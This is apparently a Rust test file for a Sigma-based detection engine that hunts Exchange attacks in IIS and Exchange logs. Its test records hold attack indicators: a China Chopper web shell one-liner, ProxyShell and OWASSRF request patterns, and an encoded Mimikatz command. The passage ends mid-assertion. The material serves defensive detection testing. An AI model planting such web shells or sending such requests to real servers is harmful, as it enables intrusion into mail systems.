//! Small inline rules, each evaluated on records that must and must not
//! match it. The rules are ours, written for these tests.

use super::*;
use exhunt_core::EventRecord;

fn web() -> LogSource {
    LogSource {
        category: Some("webserver".into()),
        product: Some("windows".into()),
        service: Some("iis".into()),
    }
}

fn msx() -> LogSource {
    LogSource {
        category: None,
        product: Some("windows".into()),
        service: Some("msexchange-management".into()),
    }
}

fn security() -> LogSource {
    LogSource {
        category: Some("process_creation".into()),
        product: Some("windows".into()),
        service: Some("security".into()),
    }
}

fn rec(ls: LogSource, fields: &[(&str, &str)]) -> EventRecord {
    let mut r = EventRecord {
        logsource: ls,
        ..EventRecord::default()
    };
    for (k, v) in fields {
        r.push(*k, *v);
    }
    r
}

/// A rule set of one rule, which must load.
fn one(yaml: &str) -> RuleSet {
    let mut b = RuleSetBuilder::new();
    b.add_yaml(yaml, "inline.yml");
    let set = b.build();
    assert_eq!(set.len(), 1, "{:?}", set.load_report());
    set
}

/// Whether the rule set's rules match, checked both through the candidate
/// index and by evaluating every rule (they must agree).
fn hits(set: &RuleSet, r: &EventRecord) -> bool {
    let indexed = set.matching(&r.logsource, r);
    let all = set.matching_unindexed(&r.logsource, r);
    assert_eq!(indexed, all, "candidate index disagrees on {r:?}");
    !indexed.is_empty()
}

fn rule(logsource: &str, detection: &str) -> String {
    format!("title: test rule\nlogsource: {logsource}\ndetection:\n{detection}\nlevel: high\n")
}

#[test]
fn keyword_list_searches_every_field() {
    let set = one(&rule(
        "{product: windows, service: msexchange-management}",
        "    keywords:\n        - 'Install-TransportAgent'\n        - 'New-MailboxExportRequest'\n    condition: keywords",
    ));
    let pos = rec(
        msx(),
        &[
            ("EventID", "1"),
            ("Data1", "install-transportagent"),
            ("Data", "x"),
        ],
    );
    let neg = rec(msx(), &[("EventID", "1"), ("Data1", "Get-TransportAgent")]);
    assert!(hits(&set, &pos));
    assert!(!hits(&set, &neg));
}

#[test]
fn keyword_all_map_means_each_keyword_somewhere_in_the_event() {
    // The shape of SigmaHQ's MSExchange Management rules.
    let set = one(&rule(
        "{product: windows, service: msexchange-management}",
        "    keywords_cmdlet:\n        '|all':\n            - 'OabVirtualDirectory'\n            - ' -ExternalUrl '\n    keywords_params:\n        - 'eval(request'\n        - 'Page_Load'\n    condition: keywords_cmdlet and keywords_params",
    ));
    // Keywords in different fields still match together.
    let split = rec(
        msx(),
        &[
            ("Data1", "Set-OabVirtualDirectory"),
            (
                "Data2",
                "-Identity 'OAB' -ExternalUrl 'http://f/<script>eval(request'",
            ),
        ],
    );
    assert!(hits(&set, &split));
    let missing_one = rec(
        msx(),
        &[(
            "Data1",
            "Set-OabVirtualDirectory -InternalUrl 'http://f/eval(request'",
        )],
    );
    assert!(!hits(&set, &missing_one));
    let no_params = rec(
        msx(),
        &[(
            "Data1",
            "Set-OabVirtualDirectory -ExternalUrl 'https://mail.example.org/OAB'",
        )],
    );
    assert!(!hits(&set, &no_params));
}

#[test]
fn keyword_all_with_a_number_across_web_fields() {
    // As in web_cve_2021_26858_iis_rce: 200 is a keyword too.
    let set = one(&rule(
        "{category: webserver}",
        "    keywords:\n        '|all':\n            - 'POST'\n            - 200\n            - 'schema=Reset'\n    condition: keywords",
    ));
    let pos = rec(
        web(),
        &[
            ("cs-method", "POST"),
            ("cs-uri-query", "schema=ResetOABVirtualDirectory"),
            ("sc-status", "200"),
        ],
    );
    let neg = rec(
        web(),
        &[
            ("cs-method", "POST"),
            ("cs-uri-query", "schema=ResetOABVirtualDirectory"),
            ("sc-status", "500"),
        ],
    );
    assert!(hits(&set, &pos));
    assert!(!hits(&set, &neg));
}

#[test]
fn contains_all() {
    let set = one(&rule(
        "{category: webserver}",
        "    selection:\n        cs-uri-stem|contains|all:\n            - '/ecp/'\n            - '.js'\n    condition: selection",
    ));
    assert!(hits(&set, &rec(web(), &[("cs-uri-stem", "/ECP/y.JS")])));
    assert!(!hits(
        &set,
        &rec(web(), &[("cs-uri-stem", "/ecp/default.aspx")])
    ));
    assert!(!hits(&set, &rec(web(), &[("cs-uri-query", "/ecp/y.js")])));
}

#[test]
fn startswith_and_endswith() {
    let set = one(&rule(
        "{category: webserver}",
        "    selection:\n        cs-uri-stem|startswith: '/owa/auth/'\n        cs-uri-stem|endswith:\n            - '.aspx'\n            - '.ashx'\n    condition: selection",
    ));
    assert!(hits(
        &set,
        &rec(web(), &[("cs-uri-stem", "/owa/auth/shell.aspx")])
    ));
    assert!(!hits(
        &set,
        &rec(web(), &[("cs-uri-stem", "/owa/auth/shell.aspx.txt")])
    ));
    assert!(!hits(
        &set,
        &rec(web(), &[("cs-uri-stem", "/x/owa/auth/shell.aspx")])
    ));
}

#[test]
fn numeric_values_match_string_fields() {
    let set = one(&rule(
        "{category: process_creation, product: windows}",
        "    selection:\n        EventID: 4688\n        NewProcessName|endswith: '\\cmd.exe'\n    condition: selection",
    ));
    let pos = rec(
        security(),
        &[
            ("EventID", "4688"),
            ("NewProcessName", "C:\\Windows\\System32\\cmd.exe"),
        ],
    );
    let neg = rec(
        security(),
        &[
            ("EventID", "4689"),
            ("NewProcessName", "C:\\Windows\\System32\\cmd.exe"),
        ],
    );
    assert!(hits(&set, &pos));
    assert!(!hits(&set, &neg));
    // A status list of numbers, as in SigmaHQ's web rules.
    let set = one(&rule(
        "{category: webserver}",
        "    selection:\n        sc-status:\n            - 200\n            - 301\n    condition: selection",
    ));
    assert!(hits(&set, &rec(web(), &[("sc-status", "301")])));
    assert!(!hits(&set, &rec(web(), &[("sc-status", "401")])));
    assert!(!hits(&set, &rec(web(), &[("sc-status", "")])));
}

#[test]
fn one_of_selection_pattern() {
    let set = one(&rule(
        "{category: webserver}",
        "    selection_a:\n        cs-method: POST\n        cs-uri-stem|contains: '/ecp/'\n    selection_b:\n        cs-user-agent: 'python-requests/2.25.1'\n    other:\n        cs-method: GET\n    condition: 1 of selection*",
    ));
    assert!(hits(
        &set,
        &rec(web(), &[("cs-method", "post"), ("cs-uri-stem", "/ecp/x")])
    ));
    assert!(hits(
        &set,
        &rec(web(), &[("cs-user-agent", "python-requests/2.25.1")])
    ));
    assert!(!hits(
        &set,
        &rec(web(), &[("cs-method", "GET"), ("cs-uri-stem", "/ecp/x")])
    ));
}

#[test]
fn all_of_them_and_all_of_pattern() {
    let set = one(&rule(
        "{category: webserver}",
        "    sel_method:\n        cs-method: POST\n    sel_status:\n        sc-status: 200\n    condition: all of them",
    ));
    assert!(hits(
        &set,
        &rec(web(), &[("cs-method", "POST"), ("sc-status", "200")])
    ));
    assert!(!hits(
        &set,
        &rec(web(), &[("cs-method", "POST"), ("sc-status", "404")])
    ));
    let set = one(&rule(
        "{category: webserver}",
        "    selection_1:\n        sc-status: 401\n    selection_1_uri:\n        cs-uri-query|contains: '/mapi/nspi'\n    selection_poc:\n        cs-uri-query|contains: 'json?@foo.com'\n    condition: all of selection_1* or selection_poc",
    ));
    assert!(hits(
        &set,
        &rec(
            web(),
            &[("sc-status", "401"), ("cs-uri-query", "@x/mapi/nspi")]
        )
    ));
    assert!(hits(
        &set,
        &rec(
            web(),
            &[("sc-status", "200"), ("cs-uri-query", "json?@foo.com")]
        )
    ));
    assert!(!hits(
        &set,
        &rec(
            web(),
            &[("sc-status", "200"), ("cs-uri-query", "@x/mapi/nspi")]
        )
    ));
}

#[test]
fn not_filter() {
    let set = one(&rule(
        "{category: webserver}",
        "    selection:\n        cs-method: POST\n        cs-uri-stem|contains: '/owa/calendar/a'\n    filter_main_status:\n        sc-status: 503\n    condition: selection and not 1 of filter_*",
    ));
    let base = [("cs-method", "POST"), ("cs-uri-stem", "/owa/calendar/abc")];
    let mut ok = base.to_vec();
    ok.push(("sc-status", "200"));
    let mut filtered = base.to_vec();
    filtered.push(("sc-status", "503"));
    assert!(hits(&set, &rec(web(), &ok)));
    assert!(!hits(&set, &rec(web(), &filtered)));
    // A record without the filter's field: the filter cannot be checked,
    // so the rule is not applied there (it would match everything), and
    // that is counted.
    assert!(!hits(&set, &rec(web(), &base)));
    assert_eq!(set.unseen()[0].2, vec!["sc-status".to_string()]);
}

#[test]
fn regex() {
    let set = one(&rule(
        "{category: webserver}",
        "    selection:\n        cs-uri-query|re: 'Set-.+VirtualDirectory.+<script'\n    condition: selection",
    ));
    assert!(hits(
        &set,
        &rec(
            web(),
            &[(
                "cs-uri-query",
                "Set-OabVirtualDirectory ExternalUrl=http://f/<script>"
            )]
        )
    ));
    assert!(!hits(
        &set,
        &rec(web(), &[("cs-uri-query", "Set-OabVirtualDirectory ok")])
    ));
    // |re is case-sensitive unless |i.
    assert!(!hits(
        &set,
        &rec(
            web(),
            &[("cs-uri-query", "set-oabvirtualdirectory x <script")]
        )
    ));
    let set = one(&rule(
        "{category: webserver}",
        "    selection:\n        cs-uri-query|re|i: 'set-.+virtualdirectory'\n    condition: selection",
    ));
    assert!(hits(
        &set,
        &rec(web(), &[("cs-uri-query", "Set-OabVirtualDirectory")])
    ));
}

#[test]
fn windash_cidr_base64offset() {
    let pc = || LogSource {
        category: Some("process_creation".into()),
        product: Some("windows".into()),
        service: Some("sysmon".into()),
    };
    let set = one(&rule(
        "{category: process_creation, product: windows}",
        "    selection:\n        CommandLine|windash|contains: ' -encodedcommand '\n    condition: selection",
    ));
    assert!(hits(
        &set,
        &rec(pc(), &[("CommandLine", "powershell /EncodedCommand AAA")])
    ));
    assert!(hits(
        &set,
        &rec(pc(), &[("CommandLine", "powershell -encodedcommand AAA")])
    ));
    assert!(!hits(
        &set,
        &rec(pc(), &[("CommandLine", "powershell -command AAA")])
    ));

    let set = one(&rule(
        "{category: webserver}",
        "    selection:\n        c-ip|cidr:\n            - '203.0.113.0/24'\n            - '2001:db8::/32'\n    condition: selection",
    ));
    assert!(hits(&set, &rec(web(), &[("c-ip", "203.0.113.7")])));
    assert!(hits(&set, &rec(web(), &[("c-ip", "2001:db8::1")])));
    assert!(!hits(&set, &rec(web(), &[("c-ip", "198.51.100.7")])));
    assert!(!hits(&set, &rec(web(), &[("c-ip", "")])));

    let set = one(&rule(
        "{category: process_creation, product: windows}",
        "    selection:\n        CommandLine|base64offset|contains: 'Invoke-Mimikatz'\n    condition: selection",
    ));
    // "xxInvoke-Mimikatz" base64: the keyword at offset 2.
    assert!(hits(
        &set,
        &rec(
            pc(),
            &[("CommandLine", "powershell -e eHhJbnZva2UtTWltaWthdHo=")]
        )
    ));
    assert!(!hits(
        &set,
        &rec(
            pc(),
            &[("CommandLine", "powershell -e SW52b2tlLUNvbW1hbmQ=")]
        )
    ));
}

#[test]
fn wildcards_and_escapes() {
    let set = one(&rule(
        "{category: webserver}",
        "    selection:\n        cs-uri-stem: '/aspnet_client/*.as?x'\n    condition: selection",
    ));
    assert!(hits(
        &set,
        &rec(
            web(),
            &[("cs-uri-stem", "/aspnet_client/system_web/x.aspx")]
        )
    ));
    assert!(!hits(
        &set,
        &rec(web(), &[("cs-uri-stem", "/aspnet_client/x.asmx.bak")])
    ));
    // An escaped `*` is a literal star.
    let set = one(&rule(
        "{category: webserver}",
        "    selection:\n        cs-uri-query|contains: 'a\\*b'\n    condition: selection",
    ));
    assert!(hits(&set, &rec(web(), &[("cs-uri-query", "x=a*b")])));
    assert!(!hits(&set, &rec(web(), &[("cs-uri-query", "x=axxb")])));
}

#[test]
fn case_of_names_and_values() {
    let set = one(&rule(
        "{category: webserver}",
        "    selection:\n        CS-Method: post\n        cs-uri-stem|contains|cased: '/ECP/'\n    condition: selection",
    ));
    assert!(hits(
        &set,
        &rec(web(), &[("cs-method", "POST"), ("cs-uri-stem", "/ECP/x")])
    ));
    assert!(!hits(
        &set,
        &rec(web(), &[("cs-method", "POST"), ("cs-uri-stem", "/ecp/x")])
    ));
}

#[test]
fn rules_apply_only_to_their_logsource() {
    let mut b = RuleSetBuilder::new();
    b.add_yaml(
        &rule(
            "{category: webserver}",
            "    k:\n        - 'whoami'\n    condition: k",
        ),
        "web.yml",
    );
    b.add_yaml(
        &rule(
            "{product: windows, service: msexchange-management}",
            "    k:\n        - 'whoami'\n    condition: k",
        ),
        "msx.yml",
    );
    b.add_yaml(
        &rule(
            "{category: process_creation, product: windows}",
            "    k:\n        - 'whoami'\n    condition: k",
        ),
        "proc.yml",
    );
    let set = b.build();
    assert_eq!(set.len(), 3);
    let origins = |r: &EventRecord| -> Vec<String> {
        set.matching(&r.logsource, r)
            .iter()
            .map(|m| m.origin.clone())
            .collect()
    };
    assert_eq!(
        origins(&rec(web(), &[("cs-uri-query", "c=whoami")])),
        ["web.yml"]
    );
    assert_eq!(origins(&rec(msx(), &[("Data", "whoami")])), ["msx.yml"]);
    assert_eq!(
        origins(&rec(security(), &[("CommandLine", "whoami")])),
        ["proc.yml"]
    );
    let system = LogSource {
        product: Some("windows".into()),
        service: Some("system".into()),
        ..LogSource::default()
    };
    assert!(origins(&rec(system.clone(), &[("Data", "whoami")])).is_empty());
    assert!(set.for_source(&system).is_empty());
    assert_eq!(set.for_source(&web()).len(), 1);
    // Case of the record's logsource does not matter.
    let upper = LogSource {
        category: Some("WebServer".into()),
        ..LogSource::default()
    };
    assert_eq!(
        origins(&rec(upper, &[("cs-uri-query", "c=whoami")])),
        ["web.yml"]
    );
}

#[test]
fn uri_query_is_also_looked_up_in_the_whole_uri() {
    let yaml = rule(
        "{category: webserver}",
        "    selection:\n        cs-method: POST\n        cs-uri-query|contains|all:\n            - '/ecp/'\n            - 'SecurityToken='\n    condition: selection",
    );
    let r = rec(
        web(),
        &[
            ("cs-method", "POST"),
            (
                "cs-uri-stem",
                "/ecp/a@b.c/RulesEditor/InboxRules.svc/NewObject",
            ),
            ("cs-uri-query", "SecurityToken=x"),
            (
                "c-uri",
                "/ecp/a@b.c/RulesEditor/InboxRules.svc/NewObject?SecurityToken=x",
            ),
        ],
    );
    assert!(hits(&one(&yaml), &r));
    let mut b = RuleSetBuilder::new().field_map(FieldMap::none());
    b.add_yaml(&yaml, "x.yml");
    assert!(!hits(&b.build(), &r));
    // An exact match on the query alone still works.
    let exact = one(&rule(
        "{category: webserver}",
        "    selection:\n        cs-uri-query: 'SecurityToken=x'\n    condition: selection",
    ));
    assert!(hits(&exact, &r));
}

#[test]
fn custom_mapping() {
    let mut b = RuleSetBuilder::new().field_map(FieldMap::none().with(FieldAlias {
        when: msx(),
        field: "Payload".into(),
        from: vec!["Data1".into(), "Data2".into()],
    }));
    b.add_yaml(
        &rule(
            "{product: windows, service: msexchange-management}",
            "    selection:\n        Payload|contains: 'aspx'\n    condition: selection",
        ),
        "x.yml",
    );
    let set = b.build();
    assert!(hits(&set, &rec(msx(), &[("Data2", "-FilePath x.aspx")])));
    assert!(!hits(&set, &rec(msx(), &[("Data3", "-FilePath x.aspx")])));
}

/// A record that cannot list its fields: keywords search its raw text.
struct RawOnly(&'static str);

impl Record for RawOnly {
    fn field(&self, _: &str) -> Option<&str> {
        None
    }
    fn raw(&self) -> &[u8] {
        self.0.as_bytes()
    }
    fn line_no(&self) -> u64 {
        1
    }
    fn time(&self) -> Option<&str> {
        None
    }
}

#[test]
fn keywords_fall_back_to_raw_text() {
    let set = one(&rule(
        "{category: webserver}",
        "    k:\n        - '=whoami'\n    condition: k",
    ));
    assert_eq!(
        set.matching(&web(), &RawOnly("GET /owa/x.aspx c=whoami 200"))
            .len(),
        1
    );
    assert!(set.matching(&web(), &RawOnly("GET /owa/ 200")).is_empty());
}

#[test]
fn metadata_and_custom_block() {
    let set = one(
        "title: Web shell requested\nid: 6f7d2a4e-0000-4000-8000-000000000001\nstatus: experimental\ndescription: d\nreferences:\n    - https://example.org/a\ntags:\n    - attack.t1505.003\nlogsource:\n    category: webserver\ndetection:\n    s:\n        cs-uri-stem|endswith: '.aspx'\n    condition: s\nfalsepositives:\n    - none\nlevel: critical\nexhunt:\n    verdict: compromised\n    cves: [CVE-2021-26855]\n",
    );
    let m = &set.rules()[0];
    assert_eq!(m.id, "6f7d2a4e-0000-4000-8000-000000000001");
    assert_eq!(m.title, "Web shell requested");
    assert_eq!(m.level.as_deref(), Some("critical"));
    assert_eq!(m.status.as_deref(), Some("experimental"));
    assert_eq!(m.description.as_deref(), Some("d"));
    assert_eq!(m.references, ["https://example.org/a"]);
    assert_eq!(m.tags, ["attack.t1505.003"]);
    assert_eq!(m.falsepositives, ["none"]);
    assert_eq!(m.logsource.category.as_deref(), Some("webserver"));
    assert_eq!(m.origin, "inline.yml");
    assert_eq!(
        m.custom["exhunt"],
        serde_json::json!({"verdict": "compromised", "cves": ["CVE-2021-26855"]})
    );
    assert!(!m.custom.contains_key(backend::INDEX_KEY));
}

fn reports(yaml: &str) -> Vec<LoadReport> {
    let mut b = RuleSetBuilder::new();
    b.add_yaml(yaml, "r.yml");
    b.build().load_report().to_vec()
}

fn skipped(yaml: &str) -> String {
    let r = reports(yaml);
    assert_eq!(r.len(), 1, "{r:?}");
    match &r[0].status {
        LoadStatus::Skipped { reason } => reason.clone(),
        LoadStatus::Loaded => panic!("loaded: {yaml}"),
    }
}

#[test]
fn unloadable_documents_are_reported_with_a_reason() {
    let web_rule = |det: &str| rule("{category: webserver}", det);
    assert!(skipped("title: [unclosed\n").contains("YAML"));
    assert!(skipped(&web_rule(
        "    s:\n        cs-method|frobnicate: x\n    condition: s"
    ))
    .contains("frobnicate"));
    assert!(skipped(&web_rule(
        "    s:\n        cs-method: x\n    condition: s and t"
    ))
    .contains("does not compile"));
    assert!(skipped(&web_rule(
        "    s:\n        cs-method: x\n    condition: s and ("
    ))
    .contains("Condition"));
    assert!(skipped(&web_rule(
        "    s:\n        cs-method: x\n    condition: s | count() > 5"
    ))
    .contains("Condition"));
    assert!(skipped(&web_rule(
        "    s:\n        cs-uri-query|re: '('\n    condition: s"
    ))
    .contains("does not compile"));
    assert!(skipped(&web_rule(
        "    s:\n        c-ip|cidr: 'nonsense'\n    condition: s"
    ))
    .contains("does not compile"));
    assert!(skipped(&web_rule(
        "    s:\n        cs-username|expand: '%admins%'\n    condition: s"
    ))
    .contains("expand"));
    assert!(skipped("title: x\nlogsource: {category: webserver}\n").contains("detection"));
    assert!(skipped(&rule(
        "{category: proxy}",
        "    s:\n        c-uri|contains: x\n    condition: s"
    ))
    .contains("no exhunt reader"));
    assert!(skipped(&rule(
        "{product: linux}",
        "    s:\n        x: y\n    condition: s"
    ))
    .contains("no exhunt reader"));
    assert!(
        skipped(&rule("{}", "    s:\n        x: y\n    condition: s"))
            .contains("no category, product or service")
    );
    assert!(skipped(
        "title: c\ncorrelation:\n    type: event_count\n    rules: [a]\n    group-by: [c-ip]\n    timespan: 5m\n    condition: {gte: 3}\n"
    )
    .contains("correlation"));
    assert!(skipped("").contains("no Sigma document"));
    assert!(skipped("# only a comment\n").contains("no Sigma document"));
    assert!(skipped("- a\n- b\n").contains("mapping"));
    let unsupported = format!(
        "status: unsupported\n{}",
        web_rule("    s:\n        x: y\n    condition: s")
    );
    assert!(skipped(&unsupported).contains("unsupported"));
}

#[test]
fn every_document_of_a_file_is_reported() {
    let ok = rule(
        "{category: webserver}",
        "    s:\n        x: y\n    condition: s",
    );
    let bad = rule(
        "{category: webserver}",
        "    s:\n        x|nope: y\n    condition: s",
    );
    let r = reports(&format!("{ok}---\n{bad}---\n{ok}"));
    assert_eq!(r.len(), 3, "{r:?}");
    // Without an id two copies of a rule cannot be told apart: both load.
    // Lost documents are reported after the others (the parser does not
    // say where they were).
    let loaded: Vec<bool> = r.iter().map(|r| r.status.is_loaded()).collect();
    assert_eq!(loaded, [true, true, false], "{r:?}");
}

#[test]
fn duplicate_ids_load_once() {
    let ok = format!(
        "id: 11111111-2222-4333-8444-555555555555\n{}",
        rule(
            "{category: webserver}",
            "    s:\n        x: y\n    condition: s"
        )
    );
    let mut b = RuleSetBuilder::new();
    assert_eq!(b.add_yaml(&ok, "a.yml"), 1);
    assert_eq!(b.add_yaml(&ok, "b.yml"), 0);
    let set = b.build();
    assert_eq!(set.len(), 1);
    match &set.load_report()[1].status {
        LoadStatus::Skipped { reason } => assert!(reason.contains("a.yml"), "{reason}"),
        s => panic!("{s:?}"),
    }
}

#[test]
fn parser_warnings_stay_with_a_loaded_rule() {
    let r = reports(&format!(
        "status: shaky\n{}",
        rule(
            "{category: webserver}",
            "    s:\n        x: y\n    condition: s"
        )
    ));
    assert_eq!(r.len(), 1, "{r:?}");
    assert!(r[0].status.is_loaded());
    assert!(r[0].warnings[0].contains("shaky"), "{r:?}");
    // A trailing document separator is no lost rule.
    let r = reports(&format!(
        "{}---\n",
        rule(
            "{category: webserver}",
            "    s:\n        x: y\n    condition: s"
        )
    ));
    assert_eq!(r.len(), 1, "{r:?}");
    assert!(r[0].status.is_loaded() && r[0].warnings.is_empty(), "{r:?}");
}

#[test]
fn filters_apply_to_the_rules_they_name() {
    let target = format!(
        "id: 8c0a5c5e-0000-4000-8000-00000000000a\n{}",
        rule(
            "{category: webserver}",
            "    s:\n        cs-uri-stem|endswith: '.aspx'\n    condition: s"
        )
    );
    let filter = "title: our own web pages\nlogsource: {category: webserver}\nfilter:\n    rules:\n        - 8c0a5c5e-0000-4000-8000-00000000000a\n    selection:\n        cs-uri-stem|startswith: '/owa/auth/'\n    condition: not selection\n";
    let stray = "title: names nothing\nlogsource: {category: webserver}\nfilter:\n    rules:\n        - no-such-rule\n    selection:\n        cs-uri-stem: x\n    condition: not selection\n";
    let mut b = RuleSetBuilder::new();
    b.add_yaml(&target, "rule.yml");
    b.add_yaml(filter, "filter.yml");
    b.add_yaml(stray, "stray.yml");
    let set = b.build();
    let rep = set.load_report();
    assert_eq!(rep.len(), 3);
    assert!(rep[1].status.is_loaded(), "{:?}", rep[1]);
    assert!(
        matches!(&rep[2].status, LoadStatus::Skipped { reason } if reason.contains("no-such-rule"))
    );
    assert!(hits(
        &set,
        &rec(web(), &[("cs-uri-stem", "/aspnet_client/x.aspx")])
    ));
    assert!(!hits(
        &set,
        &rec(web(), &[("cs-uri-stem", "/owa/auth/logon.aspx")])
    ));
}

#[test]
fn add_dir_walks_yaml_files_and_reports_the_unreadable() {
    let dir = std::env::temp_dir().join(format!("exhunt-sigma-test-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("sub/deeper")).unwrap();
    std::fs::create_dir_all(dir.join(".git")).unwrap();
    let r = rule(
        "{category: webserver}",
        "    s:\n        x: y\n    condition: s",
    );
    std::fs::write(dir.join("a.yml"), &r).unwrap();
    std::fs::write(dir.join("sub/b.YAML"), &r).unwrap();
    std::fs::write(dir.join("sub/deeper/c.yml"), &r).unwrap();
    std::fs::write(dir.join("sub/deeper/bad.yml"), b"title: \xff\xfe\n").unwrap();
    std::fs::write(dir.join("README.md"), "not a rule").unwrap();
    std::fs::write(dir.join(".git/d.yml"), &r).unwrap();
    let mut b = RuleSetBuilder::new();
    let files = b.add_dir(&dir).unwrap();
    assert!(b.add_dir(&dir.join("missing")).is_err());
    let set = b.build();
    let _ = std::fs::remove_dir_all(&dir);
    assert_eq!(files, 4);
    assert_eq!(set.len(), 3);
    let rep = set.load_report();
    assert_eq!(rep.len(), 4, "{rep:?}");
    let bad = rep.iter().find(|r| r.origin.ends_with("bad.yml")).unwrap();
    assert!(matches!(&bad.status, LoadStatus::Skipped { reason } if reason.contains("UTF-8")));
}

#[test]
fn rule_set_is_shared_by_threads() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<RuleSet>();
    let set = one(&rule(
        "{category: webserver}",
        "    s:\n        cs-method: POST\n    condition: s",
    ));
    std::thread::scope(|s| {
        for _ in 0..2 {
            s.spawn(|| {
                let r = rec(web(), &[("cs-method", "POST")]);
                for _ in 0..100 {
                    assert_eq!(set.matching(&r.logsource, &r).len(), 1);
                }
            });
        }
    });
}

#[test]
fn for_each_match_and_matching_agree() {
    let mut b = RuleSetBuilder::new();
    for i in 0..5 {
        b.add_yaml(
            &rule(
                "{category: webserver}",
                &format!("    s:\n        cs-uri-stem|contains: '/p{i}/'\n    condition: s"),
            ),
            &format!("r{i}.yml"),
        );
    }
    let set = b.build();
    let r = rec(web(), &[("cs-uri-stem", "/p1/p3/")]);
    let mut seen = Vec::new();
    set.for_each_match(&r.logsource, &r, &mut |m| seen.push(m.origin.clone()));
    seen.sort();
    let listed: Vec<_> = set
        .matching(&r.logsource, &r)
        .iter()
        .map(|m| m.origin.clone())
        .collect();
    assert_eq!(seen, listed);
    assert_eq!(listed, ["r1.yml", "r3.yml"]);
    assert_eq!(set.for_source(&web()).rules().count(), 5);
}

/// SigmaHQ's Exchange rules, from the project's shared test data (not in
/// the repository: DRL-licensed, other people's work). Without the folder
/// there is nothing to check.
fn sigmahq_dir() -> Option<std::path::PathBuf> {
    let dir =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/testdata-public/sigma-rules");
    if dir.is_dir() {
        Some(dir)
    } else {
        eprintln!("{} absent: SigmaHQ rule checks not run", dir.display());
        None
    }
}

/// An IIS W3C line as exhunt's W3C reader gives it: W3C names plus
/// Sigma's webserver names.
fn iis(method: &str, stem: &str, query: &str, status: &str, agent: &str) -> EventRecord {
    let uri = if query.is_empty() {
        stem.to_string()
    } else {
        format!("{stem}?{query}")
    };
    let ext = stem.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
    rec(
        web(),
        &[
            ("date", "2021-08-13"),
            ("time", "10:02:03"),
            ("s-ip", "10.0.0.5"),
            ("cs-method", method),
            ("cs-uri-stem", stem),
            ("cs-uri-query", query),
            ("s-port", "443"),
            ("cs-username", ""),
            ("c-ip", "203.0.113.7"),
            ("cs(User-Agent)", agent),
            ("cs(Referer)", ""),
            ("sc-status", status),
            ("sc-substatus", "0"),
            ("sc-win32-status", "0"),
            ("time-taken", "15"),
            ("cs-user-agent", agent),
            ("c-useragent", agent),
            ("c-uri", &uri),
            ("c-uri-stem", stem),
            ("c-uri-query", query),
            ("c-uri-extension", ext),
        ],
    )
}

/// An MSExchange Management event: the cmdlet and its parameters as
/// unnamed data (`Data1`, `Data2`) and `Data`, the whole, here the command
/// as it reads (name, space, parameters), which is what SigmaHQ's keywords
/// with a leading space (` -Mailbox `, ` -ExternalUrl `) assume.
fn cmdlet(event_id: &str, name: &str, params: &str) -> EventRecord {
    let all = format!("{name} {params}");
    rec(
        msx(),
        &[
            ("EventID", event_id),
            ("Channel", "MSExchange Management"),
            ("Provider_Name", "MSExchange CmdletLogs"),
            ("Data1", name),
            ("Data2", params),
            ("Data", &all),
        ],
    )
}

fn sysmon_process(parent: &str, image: &str, cmd: &str) -> EventRecord {
    rec(
        LogSource {
            category: Some("process_creation".into()),
            product: Some("windows".into()),
            service: Some("sysmon".into()),
        },
        &[
            ("EventID", "1"),
            ("Channel", "Microsoft-Windows-Sysmon/Operational"),
            ("ParentImage", parent),
            ("Image", image),
            ("CommandLine", cmd),
        ],
    )
}

#[test]
fn sigmahq_exchange_rules_load_and_fire() {
    let Some(dir) = sigmahq_dir() else {
        return;
    };
    let mut b = RuleSetBuilder::new();
    let files = b.add_dir(&dir).expect("list the rule folder");
    let set = b.build();
    let rep = set.load_report();
    for r in rep {
        eprintln!("{r}");
        if let LoadStatus::Skipped { reason } = &r.status {
            assert!(!reason.trim().is_empty(), "{r:?}");
        }
    }
    let mut names: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".yml"))
        .collect();
    names.sort();
    assert_eq!(files, names.len());
    for n in &names {
        let of_file: Vec<_> = rep
            .iter()
            .filter(|r| r.origin.ends_with(n.as_str()))
            .collect();
        assert!(!of_file.is_empty(), "{n} has no load report");
        let must_load = n.starts_with("win_exchange_")
            || n.starts_with("web_")
            || n.starts_with("proc_creation_");
        if must_load {
            assert!(
                of_file.iter().all(|r| r.status.is_loaded()),
                "{n}: {of_file:?}"
            );
        }
    }

    let titles = |r: &EventRecord| -> Vec<String> {
        let indexed = set.matching(&r.logsource, r);
        assert_eq!(indexed, set.matching_unindexed(&r.logsource, r));
        indexed.iter().map(|m| m.title.clone()).collect()
    };
    let has = |r: &EventRecord, title: &str| titles(r).iter().any(|t| t == title);

    // ProxyShell, as Orange Tsai's chain leaves it in IIS logs.
    let q = "@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp";
    let stem = "/autodiscover/autodiscover.json";
    assert!(has(
        &iis("GET", stem, q, "200", "python-requests/2.26.0"),
        "Successful Exchange ProxyShell Attack"
    ));
    assert!(has(
        &iis("GET", stem, q, "401", "python-requests/2.26.0"),
        "Exchange ProxyShell Pattern"
    ));
    // HAFNIUM: a POST to an ECP script (the path is in cs-uri-stem).
    assert!(has(
        &iis(
            "POST",
            "/ecp/y.js",
            "",
            "200",
            "ExchangeServicesClient/0.0.0.0"
        ),
        "Exchange Exploitation Used by HAFNIUM"
    ));
    // OWASSRF.
    assert!(has(
        &iis(
            "POST",
            "/owa/mastermailbox%40outlook.com/powershell",
            "",
            "200",
            "python-requests/2.28.1"
        ),
        "Potential OWASSRF Exploitation Attempt - Webserver"
    ));
    // An ordinary sign-in page request fires nothing.
    assert!(titles(&iis(
        "GET",
        "/owa/auth/logon.aspx",
        "replaceCurrent=1&url=https%3a%2f%2fmail.example.org%2fowa%2f",
        "200",
        "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)"
    ))
    .is_empty());

    // ProxyLogon's China Chopper written through the OAB virtual directory.
    let oab = cmdlet(
        "1",
        "Set-OabVirtualDirectory",
        "-Identity 'OAB (Default Web Site)' -ExternalUrl 'http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"p\"],\"unsafe\");}</script>'",
    );
    assert!(has(&oab, "ProxyLogon MSExchange OabVirtualDirectory"));
    assert!(has(
        &oab,
